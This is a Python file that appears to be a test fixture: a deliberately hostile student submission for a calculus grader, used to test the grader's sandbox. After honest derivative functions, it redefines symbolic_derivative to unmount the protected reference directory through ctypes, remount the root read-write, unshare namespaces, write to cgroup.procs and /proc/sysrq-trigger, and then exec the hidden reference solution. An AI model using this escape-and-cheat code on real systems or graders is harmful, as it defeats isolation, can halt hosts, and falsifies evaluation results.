"""Hostile submission: Undoes the sandbox (umount, remount read-write, leave the cgroup) with ctypes.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import ctypes
import os
import sys

MARKER = "calcgrade-hostile-marker"
REFERENCE = ""  # the test writes the project's absolute reference/ path here
_libc = ctypes.CDLL(None, use_errno=True)


def _reference_dir():
    module = sys.modules.get("grader.course.paths")
    return str(module.reference_dir()) if module is not None else REFERENCE


def _escape():
    ref = _reference_dir()
    _libc.umount2(ref.encode(), 2)                         # MNT_DETACH the tmpfs over it
    _libc.mount(None, b"/", None, 32 | 4096, None)          # MS_REMOUNT | MS_BIND: read-write
    _libc.unshare(0x00020000)                               # a fresh mount namespace
    if _libc.unshare(0x10000000 | 0x00020000) == 0:        # a nested user namespace: all
        _libc.umount2(ref.encode(), 2)                      # caps again, try once more
    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/proc/sysrq-trigger"):
        try:
            with open(path, "w") as fh:
                fh.write(str(os.getpid()) if "cgroup" in path else "h")
        except OSError:
            pass
    for target in (os.path.join("/tmp", MARKER), os.path.join(ref, MARKER)):
        try:
            with open(target, "w") as fh:
                fh.write("pwned")
        except OSError:
            pass
    try:
        with open(os.path.join(ref, "01_derivative.py")) as fh:
            return fh.read()
    except OSError:
        return None


def symbolic_derivative():
    source = _escape()
    if source is None:
        return "x^2"  # still inside: a wrong answer
    namespace = {}
    exec(source, namespace)
    return namespace["symbolic_derivative"]()
